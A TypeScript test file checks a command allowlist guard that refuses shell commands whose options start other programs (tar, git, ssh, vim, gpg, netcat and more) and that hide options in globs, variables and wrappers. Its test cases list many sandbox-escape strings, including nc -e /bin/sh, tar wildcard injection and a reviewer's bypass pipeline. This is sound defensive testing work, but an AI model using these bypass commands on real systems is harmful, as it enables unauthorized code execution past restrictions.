import { describe, expect, it } from "vitest";
import { type AllowlistRule, checkCommand } from "./allowlist.ts";
import { programOptionTable } from "./program-options.ts";

const rules: AllowlistRule[] = [
  ...programOptionTable.flatMap((entry) => entry.programs),
  "sed",
  "awk",
  "gawk",
  "yes",
  "head",
  "xargs",
  "find",
  "env",
  "busybox",
  "timeout",
];

const refusedReason = (command: string, chosen: AllowlistRule[] = rules): string => {
  const result = checkCommand(chosen, command);
  return result.allowed ? "(allowed)" : result.reason;
};

describe("options that start another program", () => {
  // Every spelling in the table has a row here; the test below proves it.
  const refused: Array<[string, string]> = [
    ["sort -S 16K -T /tmp --compress-program=sh f", "sort --compress-program starts another program"],
    ["sort --compress-program sh f", "sort --compress-program starts another program"],
    ["sort --co=sh f", "sort --co (--compress-program) starts"],
    ["sort --compress-prog sh f", "--compress-prog (--compress-program)"],
    ["sort f --compress-program=sh", "--compress-program"],
    ["split --filter='sh -c x' f", "split --filter starts another program"],
    ["split --fil=sh f", "--fil (--filter)"],
    ["tar -I sh -cf a.tar .", "tar -I (--use-compress-program) starts another program"],
    ["gtar -I sh -cf a.tar .", "gtar -I"],
    ["bsdtar --use-compress-program=sh -cf a.tar .", "bsdtar --use-compress-program"],
    ["tar -xIsh -f a.tar", "-I (--use-compress-program)"],
    ["tar -xf a.tar -Ish", "-I (--use-compress-program)"],
    ["tar xIf sh a.tar", "-I (--use-compress-program)"],
    ["tar --use-compress-program=sh -xf a.tar", "tar --use-compress-program"],
    ["tar --use-compress=sh -xf a.tar", "--use-compress (--use-compress-program)"],
    ["tar -xf a.tar --to-command='sh -c x'", "tar --to-command starts"],
    ["tar -cf a.tar -F ./x.sh -M .", "tar -F (--info-script)"],
    ["tar -cf a.tar --info-script=x.sh .", "--info-script"],
    ["tar -cf a.tar --new-volume-script=x.sh .", "--new-volume-script"],
    ["tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=sh .", "--checkpoint-action"],
    ["tar -cf a.tar --checkpoint-a=exec=sh .", "--checkpoint-a (--checkpoint-action)"],
    ["tar -cf host:a.tar --rsh-command=/bin/sh .", "--rsh-command"],
    ["tar -cf host:a.tar --rmt-command=/bin/sh .", "--rmt-command"],
    ["rsync -e 'sh -c x' a/ h:b/", "rsync -e (--rsh) starts"],
    ["rsync -avze sh a/ h:b/", "-e (--rsh)"],
    ["rsync --rsh=sh a/ h:b/", "--rsh"],
    ["rsync --rsync-path='sh -c x' a/ h:b/", "--rsync-path"],
    ["git -c core.pager='sh -c x' log", "git -c sets configuration"],
    ["git -c alias.x='!sh' x", "git -c"],
    ["git --config-env=core.pager=P log", "git --config-env"],
    ["git --exec-path=/workspace status", "git --exec-path chooses"],
    ["git -C sub --exec-path=/tmp status", "--exec-path"],
    ["git clone -u 'sh -c x' h:r", "git clone -u (--upload-pack)"],
    ["git clone --upload-pack='sh -c x' h:r", "git clone --upload-pack"],
    ["git clone -c core.fsmonitor=x h:r", "git clone -c (--config)"],
    ["git clone --config core.fsmonitor=x h:r", "git clone --config"],
    ["git clone --template=/workspace/t h:r", "git clone --template"],
    ["git fetch --upload-pack=sh origin", "git fetch --upload-pack"],
    ["git fetch --upload-p=sh origin", "--upload-p (--upload-pack)"],
    ["git pull --upload-pack=sh", "git pull --upload-pack"],
    ["git ls-remote --upload-pack=sh h:r", "git ls-remote --upload-pack"],
    ["git ls-remote --exec=sh h:r", "git ls-remote --exec (--upload-pack)"],
    ["git push --receive-pack=sh origin", "git push --receive-pack"],
    ["git push --exec=sh origin", "git push --exec (--receive-pack)"],
    ["git send-pack --receive-pack=sh h:r", "git send-pack --receive-pack"],
    ["git send-pack --exec=sh h:r", "git send-pack --exec"],
    ["git archive --remote=h:r --exec=sh HEAD", "git archive --exec"],
    ["git rebase -x 'touch pwned' HEAD~2", "git rebase -x (--exec) runs a shell command"],
    ["git rebase --exec='touch pwned' HEAD~2", "git rebase --exec"],
    ["git grep -O'sh -c x' foo", "git grep -O (--open-files-in-pager)"],
    ["git grep --open-files-in-pager=sh foo", "--open-files-in-pager"],
    ["git help -w log", "git help -w (--web) starts a web browser"],
    ["git help --web log", "--web"],
    ["git submodule foreach 'touch pwned'", "git submodule foreach runs a shell command"],
    ["git bisect run sh -c x", "git bisect run runs a command"],
    ["git send-email --sendmail-cmd=sh x.patch", "--sendmail-cmd"],
    ["git send-email --smtp-server=/bin/sh x.patch", "--smtp-server"],
    ["git send-email --to-cmd=sh x.patch", "--to-cmd"],
    ["git send-email --cc-cmd=sh x.patch", "--cc-cmd"],
    ["git send-email --header-cmd=sh x.patch", "--header-cmd"],
    ["git daemon --access-hook=sh", "git daemon --access-hook"],
    ["git difftool HEAD", "git difftool starts an external diff tool"],
    ["git mergetool", "git mergetool starts an external merge tool"],
    ["git filter-branch --tree-filter 'touch x' HEAD", "git filter-branch runs shell commands"],
    ["git instaweb", "git instaweb starts a web server"],
    ["man -P 'sh -c x' ls", "man -P (--pager) starts a pager program"],
    ["man --pager=sh ls", "man --pager"],
    ["man -H ls", "man -H (--html) starts a web browser"],
    ["man --html=sh ls", "man --html"],
    ["man -X ls", "man -X (--gxditview)"],
    ["man --gxditview ls", "--gxditview"],
    ["man -C ./man.conf ls", "man -C (--config-file) reads a configuration file"],
    ["man --config-file=./man.conf ls", "--config-file"],
    ["less '+!touch pwned' f", "less + runs a less command"],
    ["less ++!sh f", "less +"],
    ["less -k keys f", "less -k (--lesskey-file)"],
    ["less --lesskey-file=keys f", "--lesskey-file"],
    ["less --lesskey-src=keys f", "--lesskey-src"],
    ["less --lesskey-content='#env' f", "--lesskey-content"],
    ["vim -c '!touch pwned' f", "vim -c runs editor commands"],
    ["vim '+!touch pwned' f", "vim + runs editor commands"],
    ["vim --cmd '!touch pwned' f", "vim --cmd"],
    ["vim -S x.vim f", "vim -S runs an editor script"],
    ["vi '+!sh' f", "vi +"],
    ["vim -u x.vim f", "-u"],
    ["vim -U x.vim f", "-U"],
    ["vim -s keys f", "-s"],
    ["vim -es f", "-s"],
    ["nvim -l x.lua", "nvim -l runs a Lua script"],
    ["vim -l x.lua", "vim -l"],
    ["ex -c '!sh' f", "ex -c"],
    ["view '+!sh' f", "view +"],
    ...["vimdiff", "rvim", "rview", "gvim", "vim.basic", "vim.tiny", "vim.nox"].map(
      (name): [string, string] => [`${name} -c '!sh' f`, `${name} -c runs editor commands`],
    ),
    ["zip -T -TT 'sh -c x' a.zip f", "zip -T tests the archive with another program"],
    ["zip --unzip-command='sh -c x' -T a.zip f", "zip --unzip-command"],
    ["ssh -o ProxyCommand='sh -c x' h", "ssh -o sets an option that can start a program"],
    ["ssh -oLocalCommand=sh -oPermitLocalCommand=yes h", "ssh -o"],
    ["ssh -o 'StrictHostKeyChecking=no ProxyCommand=sh' h", "ssh -o"],
    ["ssh -F ./config h", "ssh -F reads a configuration file"],
    ["ssh -I ./p11.so h", "ssh -I loads a PKCS#11 library"],
    ["scp -S ./x.sh f h:", "scp -S starts another program"],
    ["scp -o ProxyCommand=sh f h:", "scp -o"],
    ["scp -F ./config f h:", "scp -F"],
    ["sftp -S ./x.sh h", "sftp -S"],
    ["sftp -D ./x.sh h", "sftp -D starts"],
    ["sftp -b batch h", "sftp -b runs batch commands"],
    ["sftp -o ProxyCommand=sh h", "sftp -o"],
    ["sftp -F ./config h", "sftp -F"],
    ["curl -K ./cfg https://example.com", "curl -K (--config) reads a configuration file"],
    ["curl --config ./cfg https://example.com", "curl --config"],
    ["curl --engine ./x.so https://example.com", "curl --engine loads a crypto engine"],
    ["wget -e use_askpass=sh https://example.com", "wget -e (--execute) runs wgetrc commands"],
    ["wget --execute=use_askpass=sh https://example.com", "wget --execute"],
    ["wget --config=./rc https://example.com", "wget --config"],
    ["wget --use-askpass=sh https://example.com", "wget --use-askpass starts"],
    ["nc -e /bin/sh h 1", "nc -e (--exec) starts"],
    ["nc -c 'sh -i' h 1", "nc -c (--sh-exec)"],
    ["nc --exec sh h 1", "nc --exec"],
    ["nc --sh-exec sh h 1", "nc --sh-exec"],
    ["nc --lua-exec x.lua h 1", "nc --lua-exec"],
    ["nc.traditional -e sh h 1", "nc.traditional -e"],
    ["nc.openbsd -e sh h 1", "nc.openbsd -e"],
    ["ncat --exec /bin/sh h 1", "ncat --exec"],
    ["ncat --sh-exec 'x' h 1", "ncat --sh-exec"],
    ["ncat --lua-exec x.lua h 1", "--lua-exec"],
    ["netcat -e sh h 1", "netcat -e"],
    // Issue 7, finding 8: each of these started a program while the allowlist allowed it.
    ["install --strip-program=./x.sh -s a /tmp/b", "install --strip-program starts another program"],
    ["install -s --strip-prog ./x.sh a /tmp/b", "--strip-prog (--strip-program)"],
    ["ginstall --strip-program=sh a b", "ginstall --strip-program"],
    ["sdiff --diff-program=./x.sh a b", "sdiff --diff-program starts another program"],
    ["sdiff -o merged a b", "sdiff -o (--output) merges interactively"],
    ["sdiff --output=merged a b", "sdiff --output"],
    ["diff3 --diff-program=./x.sh a b c", "diff3 --diff-program starts another program"],
    ["groff -U doc.ms", "groff -U enables unsafe mode"],
    ["groff -l -L ';sh' doc.ms", "groff -l sends the output to a print spooler"],
    ["groff -L ';sh' doc.ms", "groff -L"],
    ["troff -U doc", "troff -U"],
    ["pic -U doc", "pic -U"],
    ["gpic -U doc", "gpic -U"],
    ...[
      "ar",
      "nm",
      "ranlib",
      "gcc-ar",
      "gcc-nm",
      "gcc-ranlib",
      "gcc-ar-12",
      "gcc-nm-12",
      "gcc-ranlib-12",
    ].flatMap(
      (name): Array<[string, string]> => [
        [`${name} --plugin ./x.so t.a`, `${name} --plugin loads a plugin library`],
        [`x86_64-linux-gnu-${name} --plugin=./x.so t.a`, `x86_64-linux-gnu-${name} --plugin`],
      ],
    ),
    ["ar --plug ./x.so rcs t.a", "--plug (--plugin)"],
    ...["ld", "ld.bfd", "ld.gold", "gold"].flatMap(
      (name): Array<[string, string]> => [
        [`${name} -plugin ./x.so a.o`, `${name} --plugin loads a plugin library`],
        [`x86_64-linux-gnu-${name} --plugin=./x.so a.o`, `x86_64-linux-gnu-${name} --plugin`],
      ],
    ),
    ["ld --plugin=./x.so a.o", "ld --plugin"],
    ["openssl req --keygen_engine ./x.so --engine x --ssl_client_engine y", "openssl"],
    ["openssl x --provider x --provider-path y --config z", "openssl"],
    ["dpkg-architecture -c sh", "dpkg-architecture -c (--command) starts"],
    ["dpkg-architecture --command sh", "dpkg-architecture --command"],
    ["gpg --photo-viewer 'sh -c x' --list-keys", "gpg --photo-viewer starts"],
    ["gpg --agent-program ./x.sh -d f", "gpg --agent-program"],
    ["gpg --dirmngr-program ./x.sh --recv-keys k", "gpg --dirmngr-program"],
    ["gpg --exec-path /tmp -d f", "gpg --exec-path chooses"],
    ["gpg --options ./gpg.conf -d f", "gpg --options reads a configuration file"],
    ["gpg2 --photo-viewer sh k", "gpg2 --photo-viewer"],
    ["gpgsm --agent-program sh k", "gpgsm --agent-program"],
    ["gpg-agent --pinentry-program ./x.sh --daemon", "gpg-agent --pinentry-program starts"],
    ["gpg-agent --scdaemon-program ./x.sh --daemon", "gpg-agent --scdaemon-program"],
    ["gpg-agent --options ./a.conf --daemon", "gpg-agent --options"],
    ["gpg-connect-agent -E ./x.sh", "gpg-connect-agent -E (--exec) starts"],
    ["gpg-connect-agent --exec ./x.sh", "gpg-connect-agent --exec"],
    ["gpg-connect-agent --agent-program ./x.sh /bye", "gpg-connect-agent --agent-program"],
    ["gpg-connect-agent --dirmngr-program ./x.sh /bye", "gpg-connect-agent --dirmngr-program"],
    ["openssl req -engine ./x.so -new", "openssl --engine loads an engine library"],
    ["openssl req -keygen_engine ./x.so -new", "openssl --keygen_engine (--engine) loads"],
    ["openssl s_client -ssl_client_engine ./x.so", "openssl --ssl_client_engine (--engine) loads"],
    ["openssl engine dynamic -pre SO_PATH:./x.so", "openssl engine (--engine) loads an engine library"],
    ["openssl list -provider x -provider-path ./lib", "openssl --provider loads a provider library"],
    ["openssl list -provider-path ./lib", "openssl --provider-path (--provider) loads"],
    ["openssl req -config ./x.cnf -new", "openssl --config reads a configuration file"],
  ];

  it.each(refused)("%s", (command, reason) => {
    expect(refusedReason(command)).toContain(reason);
    expect(refusedReason(command)).toMatch(/; not allowed while an allowlist is set$/);
  });

  it("has a refused case for every program and spelling in the table", () => {
    const commands = refused.map(([command]) => ` ${command} `);
    for (const entry of programOptionTable) {
      for (const program of entry.programs) {
        expect([program, commands.some((command) => command.startsWith(` ${program} `))]).toEqual([
          program,
          true,
        ]);
      }
      const program = entry.programs[0];
      for (const [subcommand, options] of Object.entries({ "": entry.options, ...entry.subcommands })) {
        const prefix = subcommand === "" ? ` ${program} ` : ` ${program} ${subcommand} `;
        const spellings = typeof options === "string" ? [""] : options.flatMap((risky) => risky.spellings);
        for (const spelling of spellings) {
          const covered = commands.some(
            (command) => command.startsWith(prefix) && command.includes(spelling),
          );
          expect([prefix, spelling, covered]).toEqual([prefix, spelling, true]);
        }
      }
    }
  });
});

describe("the reviewer's bypass", () => {
  it("yes 'touch pwned' | head | sort --compress-program=sh is refused", () => {
    const command = "yes 'touch pwned' | head -n 20000 | sort -S 16K -T /tmp --compress-program=sh";
    expect(refusedReason(command, ["sort", "yes", "head"])).toBe(
      "sort --compress-program starts another program; not allowed while an allowlist is set",
    );
  });
});

describe("arguments the check cannot see count as risky", () => {
  it.each([
    ["xargs input", "yes | xargs sort", "not known in advance"],
    ["xargs through a wrapper", "xargs timeout 5 tar -xf", "not known in advance"],
    ["find's {}", "find . -name '*.tgz' -exec tar -xzf {} ';'", "not known in advance"],
    ["a glob that could name an option", "sort *", "could become an option"],
    ["the tar wildcard injection", "tar -czf a.tgz *", "could become an option"],
    ["an unquoted variable", "sort $OPTS f", "could become an option"],
    ["a quoted variable", 'sort "$X" f', "could become an option"],
    ['"$@", one word per parameter', 'set -- --compress-program=sh; sort "$@"', "could become an option"],
    ["a variable after fixed text, which splits", "sort a$X", "could become an option"],
    ["a variable inside an option", 'sort --compress-program="$P"', "--compress-program"],
    ["an expanded git subcommand", 'git "$SUB" foreach x', "shell expansion"],
    [
      "an expanded git subcommand after fixed text",
      'git "s$SUB" foreach x',
      "subcommand uses shell expansion",
    ],
    [
      "an option after --, which may be the value of an option before it",
      "sort -o -- --compress-program=sh",
      "--compress-program",
    ],
    ["an expanded git option", 'git "$OPT" log', "could become an option"],
    ["an expanded old-style tar bundle", 'tar "x$F" sh a.tar', "bundle of options"],
    ["a brace expansion", "sort {--compress-program=sh,f}", "could become an option"],
  ])("%s", (_label, command, reason) => {
    expect(refusedReason(command)).toContain(reason);
  });

  it.each([
    "sort ./*",
    "sort src/*.txt",
    'sort "./$F"',
    "tar -czf a.tgz ./*",
    'tar --exclude="$X" -czf a.tgz ./src',
    'git -C "$DIR" status',
    'git add "$FILE"',
  ])("but not a word whose fixed start is not a dash: %s", (command) => {
    expect(checkCommand(rules, command)).toEqual({ allowed: true });
  });
});

describe("ordinary uses still pass", () => {
  it.each([
    "sort -n file",
    "sort -k2,2n -t: -o out.txt file",
    "sort -u -S 16K -T /tmp f",
    "split -l 100 f part-",
    "tar -xzf a.tgz",
    "tar -czf a.tgz -C src .",
    "tar xzf a.tgz",
    "tar -cfI.tar src",
    "tar --checkpoint=1000 -xf a.tar",
    "tar -tvf a.tar --exclude='*.tmp'",
    "git status",
    "git log --oneline",
    "git -C sub log --oneline -n 5",
    "git --no-pager diff HEAD~1",
    "git add -u",
    "git push -u origin main",
    "git commit -m 'fix: -c and -x in a message'",
    "git clone --depth 1 https://example.com/r.git",
    "git rebase -i HEAD~3",
    "git grep -n foo",
    "git submodule update --init",
    "git config user.email a@b.c",
    "rsync -a a/ b/",
    "rsync -avz --delete src/ dst/",
    "man ls",
    "man -k printf",
    "less f",
    "less +10 f",
    "vim +10 f",
    "vim -R f",
    "zip -r a.zip dir",
    "ssh -o StrictHostKeyChecking=no -p 2222 h ls",
    "ssh -o ConnectTimeout=5 -oBatchMode=yes h",
    "scp -P 2222 f h:",
    "curl -fsSL -o out https://example.com",
    "wget -qO- https://example.com",
    "nc -z h 80",
  ])("%s", (command) => {
    expect(checkCommand(rules, command)).toEqual({ allowed: true });
  });
});

describe("args_allow patterns are the account's explicit choice", () => {
  const chosen: AllowlistRule[] = [
    { command: "sort", args_allow: ["^--compress-program=gzip "], args_deny: [] },
    { command: "git", args_allow: [], args_deny: ["^push"] },
  ];

  it("lets an option through when a pattern accepts the exact arguments", () => {
    expect(checkCommand(chosen, "sort --compress-program=gzip big.txt")).toEqual({ allowed: true });
  });

  it("still refuses the option with other arguments", () => {
    expect(refusedReason("sort --compress-program=sh big.txt", chosen)).toContain(
      "match none of the patterns",
    );
  });

  it("does not count a deny-only rule as a choice", () => {
    expect(refusedReason("git -c core.pager=sh log", chosen)).toContain("git -c");
  });

  it("combines with a bare rule: the pattern decides for what it accepts, the table for the rest", () => {
    const both: AllowlistRule[] = ["sort", ...chosen];
    expect(checkCommand(both, "sort --compress-program=gzip big.txt")).toEqual({ allowed: true });
    expect(refusedReason("sort --compress-program=sh big.txt", both)).toContain("sort --compress-program");
  });
});

describe("wrappers reach the table", () => {
  it.each([
    ["env", "env sort --compress-program=sh f"],
    ["busybox", "busybox tar -I sh -xf a.tar"],
    ["timeout", "timeout 5 git -c core.pager=sh log"],
    ["sh -c", "sh -c 'sort --compress-program=sh f'"],
    ["find -exec", "find . -maxdepth 0 -exec sort --compress-program=sh f ';'"],
  ])("%s", (_label, command) => {
    expect(refusedReason(command, [...rules, "sh"])).toContain("not allowed while an allowlist is set");
  });

  it("env -S stays refused (it splits a string into a command)", () => {
    expect(refusedReason("env -S 'sort --compress-program=sh f'")).toContain("-S is not supported");
  });

  it("find with a quoted expansion that could be -exec is refused", () => {
    expect(refusedReason('X=-exec; find . "$X" touch pwned ";"')).toContain(
      "find arguments use shell expansion",
    );
  });
});
